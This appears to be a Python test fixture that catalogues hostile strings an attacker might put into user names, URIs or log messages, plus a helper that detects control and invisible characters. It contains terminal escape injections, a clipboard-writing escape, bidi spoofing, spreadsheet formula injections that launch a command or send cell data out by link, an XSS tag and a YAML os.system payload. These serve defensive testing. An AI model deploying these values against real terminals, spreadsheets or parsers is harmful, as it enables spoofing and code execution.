"""What an attacker can put into a user name, a user agent, an object name, a URI or a message."""

import unicodedata

HOSTILE: dict[str, str] = {
    "clear the screen": "admin\x1b[2J\x1b[H",
    "colour": "\x1b[31mroot\x1b[0m",
    "hidden text": "evil\x1b[8msecret\x1b[28m",
    "window title": "\x1b]0;pwned\x07",
    "link": "\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZWNobw==\x07",
    "one-byte CSI": "\x9b31m",
    "one-byte OSC": "\x9d0;title\x9c",
    "device status": "\x1b[6n",
    "line end": "alice\ndeny all",
    "carriage return": "mallory\ralice  ",
    "CRLF": "a\r\nb",
    "next line": "a\x85b",
    "vertical tab, form feed": "a\x0b\x0cb",
    "backspace": "mallory\x08\x08\x08\x08\x08\x08\x08alice",
    "bell, null, delete": "\x07\x00\x7f",
    "tab": "\t=1+1",
    "bidi override": "user\u202egnp.exe",
    "bidi embeddings": "\u202a\u202b\u202c\u202d",
    "bidi isolates": "\u2066\u2067\u2068\u2069",
    "bidi marks": "\u200e\u200f\u061c",
    "zero width": "ad\u200bmi\u200cn\u200d\u2060",
    "line separators": "a\u2028b\u2029c",
    "byte order mark": "\ufeffadmin",
    "tag characters": "admin\U000e0068\U000e0069",
    "variation selectors": "admin\ufe0f\U000e0100",
    "fillers": "admin\u3164\u115f\uffa0",
    "odd spaces": "admin\xa0\u2003\u3000",
    "soft hyphen": "ad\xadmin",
    "unpaired surrogate": "u\ud800x\udfff",
    "unassigned and private": "\u0378\ue000\U0010ffff",
    "stacked marks": "a" + "\u0301" * 50,
    "a mark first": "\u0301abc",
    "escape in letters": r"\x1b[2J",
    "backslashes before ESC": "\\\\\x1b",
    "fake columns": "alice   delete   secrets/x",
    "trailing space": "admin ",
    "leading space": " admin",
    "formula": '=HYPERLINK("http://example.invalid?"&A1,"ok")',
    "formula by plus": "+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+9)",
    "formula in full width": "＝1+1",
    "quotes and commas": 'a","b\'c;d',
    "html": "<script>alert(1)</script>",
    "wide letters": "日本語ユーザー",
    "long": "x" * 5000,
    "empty": "",
    "yaml": "- !!python/object/apply:os.system ['true']",
    "yaml keys": "a: b\n---\nc: d",
    "format strings": "%s%n{0.__class__}",
}

_ACTS = frozenset(["Cc", "Cf", "Cs", "Zl", "Zp"])


def acts(text: str) -> list[str]:
    """The characters of `text` that could act on a terminal or hide, but for the line ends a renderer writes."""
    return [
        character
        for character in text
        if (unicodedata.category(character) in _ACTS and character != "\n")
        or character in "\u115f\u1160\u3164\uffa0\ufe0f\U000e0100\u3000\u2003\xa0"
    ]
